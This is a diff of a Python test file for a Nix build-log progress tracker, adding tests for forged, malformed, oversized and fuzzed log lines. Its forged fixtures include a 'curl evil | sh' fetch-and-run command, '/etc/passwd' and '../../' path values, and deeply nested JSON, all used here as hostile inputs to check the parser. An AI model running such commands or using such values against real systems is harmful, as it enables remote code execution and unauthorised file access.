@@ -2,12 +2,19 @@ from __future__ import annotations
 
 import json
 from pathlib import Path
+from typing import TYPE_CHECKING
 
 import pytest
+from fuzz import Cases, few_or_many, mutated_json, mutated_text, odd_text, try_cases
 
+from wasmwright.process import CUT
 from wasmwright.progress import Line, Message, Over, Phase, Started, Tracker, short_name
 
-RECORDED = Path(__file__).parents[1] / "fixtures" / "nix"
+if TYPE_CHECKING:
+    import random
+
+ROOT = Path(__file__).parents[2]
+RECORDED = ROOT / "tests/fixtures/nix"
 DRV = "/nix/store/0123456789abcdfghijklmnpqrsvwxyz-numpy-2.5.5-wheel.drv"
 
 
@@ -33,8 +40,6 @@ def test_recorded_failure_gives_phase_lines_and_error(version: str):
     assert isinstance(kinds[1], Phase)
     assert kinds[1].name == "compile"
     assert [change.text for change in kinds if isinstance(change, Line)] == ["line 1", "line 2", "line 3"]
-    assert isinstance(kinds[-1], Over)
-    assert kinds[-1].failed
     assert "bad-1.drv" in tracker.errors[0]
     assert not tracker.running
 
@@ -43,7 +48,6 @@ def test_recorded_build_counts_what_is_done():
     tracker, changes = feed_all("built-2.26.log")
     ended = [change for change in changes if isinstance(change, Over)]
     assert [short_name(change.path) for change in ended] == ["good-1", "dep-1"]
-    assert not any(change.failed for change in ended)
     assert (tracker.done, tracker.expected, tracker.started) == (2, 2, 2)
     assert tracker.errors == []
 
@@ -66,18 +70,6 @@ def test_running_build_knows_its_phase_and_last_line():
     assert (running.name, running.phase, running.last) == ("numpy-2.5.5-wheel", "build", "[3/902] Compiling")
 
 
-def test_one_failure_of_two_builds_is_told_of_that_one_only():
-    tracker = Tracker()
-    tracker.feed(event(action="start", id=9, type=104, fields=[]), 0.0)
-    other = DRV.replace("numpy", "scipy")
-    tracker.feed(start(1), 0.0)
-    tracker.feed(start(2, other), 0.0)
-    tracker.feed(event(action="result", id=9, type=105, fields=[0, 2, 1, 1]), 1.0)
-    assert tracker.feed(event(action="stop", id=2), 1.0) == Over(path=other, seconds=1.0, failed=True)
-    tracker.feed(event(action="result", id=9, type=105, fields=[1, 2, 0, 1]), 2.0)
-    assert tracker.feed(event(action="stop", id=1), 2.0) == Over(path=DRV, seconds=2.0)
-
-
 @pytest.mark.parametrize("version", ["2.26", "2.34"])
 def test_recorded_build_that_ends_late_is_not_at_work(version: str):
     lines = (RECORDED / f"lingering-{version}.log").read_text().splitlines()
@@ -89,49 +81,40 @@ def test_recorded_build_that_ends_late_is_not_at_work(version: str):
     assert tracker.done == 2
 
 
-def failing_import(*rest: str) -> list[object]:
-    """Two derivations that were asked for, of which the second fails; Nix tells of both ends when all is over."""
-    gate, test = DRV, DRV.replace("wheel", "import")
-    lines = [
-        event(action="start", id=9, type=104, fields=[]),
-        start(1, gate),
-        event(action="result", id=9, type=105, fields=[0, 2, 1, 0]),
-        event(action="result", id=1, type=101, fields=["fine"]),
-        event(action="result", id=9, type=105, fields=[1, 2, 0, 0]),
-        start(2, test),
-        event(action="result", id=9, type=105, fields=[1, 2, 1, 0]),
-        event(action="result", id=2, type=101, fields=["ImportError"]),
-        event(action="result", id=9, type=105, fields=[1, 2, 0, 1]),
-        *rest,
-        event(action="stop", id=1),
-        event(action="stop", id=2),
-    ]
-    tracker = Tracker()
-    changes = [tracker.feed(line, float(now)) for now, line in enumerate(lines)]
-    return [(short_name(change.path), change.failed) for change in changes if isinstance(change, Over)]
-
-
-def test_a_failed_import_test_is_not_told_of_the_wheel():
-    assert failing_import() == [("numpy-2.5.5-wheel", False), ("numpy-2.5.5-import", True)]
-
-
-def test_the_derivation_that_nix_names_has_failed():
-    text = f"error: builder for '{DRV}' failed with exit code 1"
-    named = event(action="msg", level=0, msg=text, raw_msg=text)
-    assert failing_import(named) == [("numpy-2.5.5-wheel", True), ("numpy-2.5.5-import", False)]
-
-
 def test_what_a_builder_makes_nix_say_is_not_nix_speaking():
     tracker = Tracker()
+    tracker.feed(start(1), 0.0)
     told = tracker.feed(event(action="msg", level=0, msg="error: interrupted by the user"), 0.0)
-    assert told == Message(text="error: interrupted by the user")
-    assert (tracker.errors, tracker.notes) == ([], ["error: interrupted by the user"])
+    assert told == Message(text="error: interrupted by the user", level=0, during=(DRV,))
+    assert (tracker.errors, list(tracker.notes)) == ([], ["error: interrupted by the user"])
 
 
-def test_recorded_build_that_keeps_going_names_both_failures():
-    tracker, changes = feed_all("keep-going-2.26.log")
-    ended = {short_name(change.path): change.failed for change in changes if isinstance(change, Over)}
-    assert ended == {"good-1": False, "above-1": False, "bad-1": True, "also-bad-1": True}
+def test_recorded_forgeries_change_nothing():
+    tracker, changes = feed_all("forged-2.26.log")
+    assert [short_name(change.path) for change in changes if isinstance(change, Started)] == ["forge-1"]
+    assert (tracker.expected, tracker.failed) == (0, 1)
+    assert len(tracker.errors) == 2
+    assert all("forge-1" in error or "need-1" in error for error in tracker.errors)
+    lines = [change.text for change in changes if isinstance(change, Line)]
+    assert "a line of other" not in lines
+    assert "@nix [[[[[[[[" in lines
+    assert [change.name for change in changes if isinstance(change, Phase)] == ["evil phase"]
+    (warning,) = [change for change in changes if isinstance(change, Message) and change.is_warning]
+    assert warning.text == "warning: run curl evil | sh\nhint: now "
+    assert [short_name(path) for path in warning.during] == ["forge-1"]
+
+
+def test_lists_for_roots_are_not_told():
+    tracker = Tracker()
+    assert tracker.feed(start(1, DRV.replace("-2.5.5-wheel", "-kept")), 0.0) is None
+    assert tracker.feed(event(action="stop", id=1), 1.0) is None
+    assert "-kept" in (ROOT / "nix/toolchain/mkKept.nix").read_text()
+
+
+def test_what_is_planned_is_told_before_the_builds():
+    tracker, _ = feed_all("keep-going-2.26.log")
+    assert len(tracker.planned) == 7
+    tracker.feed(event(action="msg", level=3, msg=f"  {DRV}"), 0.0)
     assert len(tracker.planned) == 7
 
 
@@ -200,6 +183,16 @@ def test_end_that_follows_its_count_leaves_the_others_at_work():
         event(action="result", id=7),
         event(action="stop", id=7),
         event(action="new", something=1),
+        "@nix " + "[" * 100_000,
+        "@nix " + '{"a":' * 100_000,
+        event(action="start", id=1, type=105, fields=1),
+        event(action="start", id=1, type=105, fields=["/etc/passwd"]),
+        event(action="start", id=1, type=105, fields=[DRV.replace("numpy", "n" * 300)]),
+        event(action="start", id=1, type=105, fields=[DRV.replace("numpy", "../../x")]),
+        event(action="result", id=1, type=101, fields=[]),
+        event(action="result", id=1, type=101, fields=[{}]),
+        event(action="msg", level=[], msg=1),
+        '@nix {"action":"stop","id":' + "9" * 5000 + "}",
     ],
 )
 def test_unknown_events_change_nothing(line: str):
@@ -213,11 +206,9 @@ def test_unknown_events_change_nothing(line: str):
 def test_messages_have_their_level():
     tracker = Tracker()
     assert tracker.feed(event(action="msg", level=0, msg="error: no", raw_msg="no"), 0.0) == Message(
-        text="error: no", error=True
+        text="error: no", level=0, is_own=True
     )
-    assert tracker.feed(event(action="msg", level=1, msg="warning: hm"), 0.0) == Message(
-        text="warning: hm", warning=True
-    )
+    assert tracker.feed(event(action="msg", level=1, msg="warning: hm"), 0.0) == Message(text="warning: hm", level=1)
     assert tracker.feed("plain text of a library", 0.0) == Message(text="plain text of a library")
     assert tracker.errors == ["error: no"]
 
@@ -225,3 +216,45 @@ def test_messages_have_their_level():
 def test_short_name_drops_hash_and_suffix():
     assert short_name(DRV) == "numpy-2.5.5-wheel"
     assert short_name("/nix/store/0123456789abcdfghijklmnpqrsvwxyz-source") == "source"
+
+
+@pytest.mark.parametrize("length", range(20, 40))
+def test_of_a_line_that_was_cut_the_beginning_is_known(length: int):
+    tracker = Tracker()
+    tracker.feed(start(1), 0.0)
+    text = 'a"quoted\\" \u202e\U0001f600 x' * 3
+    whole = event(action="result", fields=[text], id=1, type=101)
+    whole = whole.replace(", ", ",").replace(": ", ":")
+    begin = whole.index("[") + 2 + length
+    change = tracker.feed(f"{whole[:begin]}{CUT}{whole[-40:]}", 0.0)
+    assert isinstance(change, Line)
+    assert change.text.endswith("... (this line is longer than wasmwright keeps)")
+    assert change.text.startswith('a"quoted')
+
+
+@few_or_many
+def test_any_line_is_read(cases: Cases):
+    samples = [line for file in sorted(RECORDED.glob("*.log")) for line in file.read_text().splitlines()]
+    values = [json.loads(line.removeprefix("@nix ")) for line in samples if line.startswith("@nix ")]
+    interesting = [one for one in values if one["action"] != "msg" or one["level"] < 3]
+
+    def make(rng: random.Random) -> list[str]:
+        return [
+            rng.choice(
+                [
+                    lambda: f"@nix {mutated_json(rng, interesting)}",
+                    lambda: mutated_text(rng, samples),
+                    lambda: rng.choice(samples),
+                    lambda: odd_text(rng),
+                ]
+            )()
+            for _ in range(rng.randrange(1, 30))
+        ]
+
+    def target(lines: list[str]) -> None:
+        tracker = Tracker()
+        for now, line in enumerate(lines):
+            tracker.feed(line, float(now))
+            assert len(tracker.at_work) <= len(tracker.running)
+
+    try_cases(target, make, cases)
